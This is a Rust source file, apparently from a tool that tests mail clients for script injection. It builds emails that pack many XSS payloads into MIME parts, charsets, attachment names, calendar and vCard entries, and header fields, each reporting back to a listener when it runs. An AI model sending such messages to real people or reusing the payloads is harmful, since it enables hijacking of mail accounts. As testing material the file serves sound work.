//! The attacks as mail: many in one message, each in a part of its own, so that none of them
//! swallows another; and those that are made of more than HTML.

use super::payloads::{Payload, filled, payloads};

/// A message that attacks who opens it.
#[derive(Debug, Clone)]
pub struct Letter {
    /// Its subject, different for each.
    pub subject: String,
    /// Its bytes.
    pub raw: Vec<u8>,
    /// The marks of the attacks in it.
    pub marks: Vec<String>,
    /// Whether it has HTML to show.
    pub html: bool,
}

/// So many attacks share a message.
const TOGETHER: usize = 20;

/// Every attack against whoever listens at `base`, as mail.
pub fn letters(base: &str) -> Vec<Letter> {
    let payloads = payloads(base);
    let together = payloads.chunks(TOGETHER).map(mixed);
    let alone = ALONE.iter().enumerate().map(|(number, make)| {
        let mark = format!("mark9{number:02}");
        let attack = |html: &str| filled(html, &format!("{base}/{mark}"));
        let (header, body) = make(&attack);
        (mark, header, body)
    });
    let alone = alone.map(|(mark, header, body)| Letter {
        subject: format!("Letter {mark}"),
        raw: message(&format!("Letter {mark}"), &header, &body),
        html: header.contains("text/html") || header.contains("related"),
        marks: vec![mark],
    });
    together.chain(alone).collect()
}

fn mixed(payloads: &[Payload]) -> Letter {
    let mut body = Vec::new();
    for Payload { mark, html } in payloads {
        let part = format!(
            "--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
             <p>seen {mark}</p>{html}\r\n"
        );
        body.extend_from_slice(part.as_bytes());
    }
    body.extend_from_slice(b"--b--\r\n");
    let first = payloads.first().map_or("", |payload| &payload.mark);
    let subject = format!("Letters from {first}");
    Letter {
        raw: message(
            &subject,
            "Content-Type: multipart/mixed; boundary=b\r\n",
            &body,
        ),
        subject,
        marks: payloads
            .iter()
            .map(|payload| payload.mark.clone())
            .collect(),
        html: true,
    }
}

/// A message; `header` is whole lines, and may have its own From and Subject.
fn message(subject: &str, header: &str, body: &[u8]) -> Vec<u8> {
    let id = subject.replace(' ', "-");
    let mut head =
        format!("Message-ID: <{id}@mail.example>\r\nDate: Mon, 3 Aug 2026 08:00:00 +0800\r\n");
    if !header.contains("From:") {
        head.push_str(&format!("From: {id}@example.com\r\n"));
    }
    if !header.contains("Subject:") {
        head.push_str(&format!("Subject: {subject}\r\n"));
    }
    head.push_str(header);
    [head.as_bytes(), b"MIME-Version: 1.0\r\n\r\n", body].concat()
}

type Attack<'a> = &'a dyn Fn(&str) -> String;
type Alone = fn(Attack<'_>) -> (String, Vec<u8>);

const IMG: &str = "seen <img src=\"§\" onerror=\"$\"><script>$</script>";

fn html(charset: &str, bytes: Vec<u8>) -> (String, Vec<u8>) {
    (
        format!("Content-Type: text/html; charset={charset}\r\n"),
        bytes,
    )
}

/// A page that shows a picture by its Content-ID, and the picture.
fn related(attack: Attack<'_>, kind: &str, picture: &str) -> (String, Vec<u8>) {
    let body = format!(
        "--b\r\nContent-Type: text/html\r\n\r\n<p>seen</p><img src=\"cid:a%40b\"><iframe src=\"cid:a@b\"></iframe>\
         <object data=\"cid:a@b\"></object><p style=\"background:url(cid:a@b)\">x</p>\r\n\
         --b\r\nContent-Type: {kind}\r\nContent-ID: <a@b>\r\n\r\n{}\r\n--b--\r\n",
        attack(picture)
    );
    (
        "Content-Type: multipart/related; boundary=b\r\n".to_owned(),
        body.into_bytes(),
    )
}

fn attached(attack: Attack<'_>, fields: &str, content: &str) -> (String, Vec<u8>) {
    let body = format!(
        "--b\r\n\r\nseen\r\n--b\r\n{}\r\n\r\n{}\r\n--b--\r\n",
        attack(fields),
        attack(content)
    );
    (
        "Content-Type: multipart/mixed; boundary=b\r\n".to_owned(),
        body.into_bytes(),
    )
}

const SVG: &str =
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"$\"><image href=\"§\"/></svg>";

const ALONE: &[Alone] = &[
    // Plain text, in which nothing is markup.
    |a| ("Content-Type: text/plain\r\n".into(), a(IMG).into_bytes()),
    |a| {
        (
            String::new(),
            a("seen § <b onclick=$>x</b> javascript:$ <§> \"§\"").into_bytes(),
        )
    },
    |a| {
        (
            "Content-Type: text/plain; charset=utf-7\r\n".into(),
            a("+ADw-script+AD4-$+ADw-/script+AD4-").into_bytes(),
        )
    },
    |a| {
        (
            "Content-Type: text/enriched\r\n".into(),
            a("<bold><param>§</param><img src=\"§\">seen</bold>").into_bytes(),
        )
    },
    |a| {
        ("Content-Type: text/xml\r\n".into(), a("<?xml-stylesheet href=\"§\"?><a xmlns=\"http://www.w3.org/1999/xhtml\"><script>$</script>seen</a>").into_bytes())
    },
    |a| {
        ("Content-Type: application/xhtml+xml\r\n".into(), a("<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>$</script><img src=\"§\"/></html>").into_bytes())
    },
    |a| {
        (
            "Content-Type: image/svg+xml\r\n".into(),
            a(SVG).into_bytes(),
        )
    },
    // The type names itself as markup.
    |a| {
        (
            a("Content-Type: \"><img src='§' onerror='$'>\"/x\r\n"),
            a(IMG).into_bytes(),
        )
    },
    |a| {
        (
            a("Content-Type: text/html; charset=\"><script>$</script>\"\r\n"),
            a(IMG).into_bytes(),
        )
    },
    // Charsets in which the same bytes are other signs.
    |a| {
        html(
            "utf-7",
            a("seen +ADw-script+AD4-$+ADw-/script+AD4-<img src=\"§\">").into_bytes(),
        )
    },
    |a| {
        html(
            "utf-16le",
            a(IMG).encode_utf16().flat_map(u16::to_le_bytes).collect(),
        )
    },
    |a| {
        html(
            "utf-16be",
            a(IMG).encode_utf16().flat_map(u16::to_be_bytes).collect(),
        )
    },
    |a| {
        html(
            "utf-8",
            [
                b"\xff\xfe".to_vec(),
                a(IMG).encode_utf16().flat_map(u16::to_le_bytes).collect(),
            ]
            .concat(),
        )
    },
    |a| {
        html(
            "iso-2022-jp",
            a("seen <a title=\"\u{1b}$B\"><img src=§ onerror=$>\u{1b}(B\">").into_bytes(),
        )
    },
    |a| {
        html(
            "gbk",
            [
                b"seen <a title=\"\x81\"".to_vec(),
                a("onmouseover=$><img src=\"§\">").into_bytes(),
            ]
            .concat(),
        )
    },
    |a| {
        html(
            "shift_jis",
            [
                b"seen <a title=\"\x81\"".to_vec(),
                a("><img src=\"§\">").into_bytes(),
            ]
            .concat(),
        )
    },
    |a| html("x-user-defined", a(IMG).into_bytes()),
    |a| {
        html(
            "utf-8",
            [
                b"seen \xc0\xbcscript\xc0\xbe".to_vec(),
                a("$\u{2028}<img src=\"§\">").into_bytes(),
            ]
            .concat(),
        )
    },
    |a| {
        (
            "Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n".into(),
            a("seen =3Cimg src=3D\"§\"=3E<img =\r\nsrc=3D\"§\">").into_bytes(),
        )
    },
    // Pictures of the message that are none.
    |a| related(a, "image/svg+xml", SVG),
    |a| related(a, "image/png", SVG),
    |a| related(a, "text/html", IMG),
    |a| related(a, "image/gif", "GIF89a/*<script>$</script><img src=\"§\">"),
    |a| {
        related(
            a,
            "application/xml",
            "<?xml-stylesheet href=\"§\"?><script xmlns=\"http://www.w3.org/1999/xhtml\">$</script>",
        )
    },
    |a| related(a, "text/css", "@import '§';"),
    // Names and types of attachments, and what is in them.
    |a| {
        attached(
            a,
            "Content-Type: text/html\r\nContent-Disposition: attachment; filename=\"<img src='§' onerror='$'>.html\"",
            IMG,
        )
    },
    |a| {
        attached(
            a,
            "Content-Type: image/svg+xml; name=\"a.svg\"\r\nContent-Disposition: inline; filename=a.svg",
            SVG,
        )
    },
    |a| {
        attached(
            a,
            "Content-Type: image/\"><img src='§'>\r\nContent-Disposition: attachment; filename=\"a.png\"",
            SVG,
        )
    },
    |a| {
        attached(
            a,
            "Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"a\u{202e}fdp.html\"",
            IMG,
        )
    },
    |a| {
        attached(
            a,
            "Content-Type: message/rfc822",
            "Subject: <img src='§' onerror='$'>\r\nContent-Type: text/html\r\n\r\n<script>$</script>",
        )
    },
    |a| {
        attached(
            a,
            "Content-Type: text/calendar",
            "BEGIN:VCALENDAR\r\nX-ALT-DESC;FMTTYPE=text/html:<img src='§' onerror='$'>\r\nATTACH:§\r\nEND:VCALENDAR",
        )
    },
    |a| {
        attached(
            a,
            "Content-Type: text/x-vcard",
            "BEGIN:VCARD\r\nPHOTO;VALUE=uri:§\r\nFN:<img src='§' onerror='$'>\r\nEND:VCARD",
        )
    },
    |a| {
        attached(
            a,
            "Content-Type: message/external-body; access-type=URL; URL=\"§\"",
            "Content-Type: image/png",
        )
    },
    |a| {
        attached(
            a,
            "Content-Type: application/ms-tnef; name=winmail.dat",
            "x\u{9f}>\"§",
        )
    },
    |a| {
        attached(
            a,
            "Content-Type: text/html\r\nContent-Location: §\r\nContent-Base: §",
            "<img src=\"x\"><img src=\"§\">",
        )
    },
    // Fields of the header.
    |a| {
        (
            a("Subject: <img src='§' onerror='$'><script>$</script>\r\n"),
            b"seen".to_vec(),
        )
    },
    |a| {
        (
            a("From: \"<img src='§' onerror='$'>\" <a@example.com>\r\n"),
            b"seen".to_vec(),
        )
    },
    |a| {
        (
            a("From: <\"<img/src='§'/onerror='$'>\"@example.com>\r\n"),
            b"seen".to_vec(),
        )
    },
    |a| {
        (
            a(
                "To: \"<svg onload=$>\" <b@example.com>\r\nCc: \"<img src='§'>\" <c@example.com>\r\nReply-To: \"<script>$</script>\" <d@example.org>\r\n",
            ),
            b"seen".to_vec(),
        )
    },
    |a| {
        (
            a(
                "X-Face: x\r\nFace: x\r\nX-Image-URL: §\r\nBIMI-Location: v=BIMI1; l=§\r\nDisposition-Notification-To: <a@127.0.0.1>\r\nReturn-Receipt-To: <a@127.0.0.1>\r\n",
            ),
            b"seen".to_vec(),
        )
    },
    |a| {
        (
            a("Message-ID: <\"><img src='§'>@x>\r\nIn-Reply-To: <'><script>$</script>>\r\n"),
            b"seen".to_vec(),
        )
    },
];
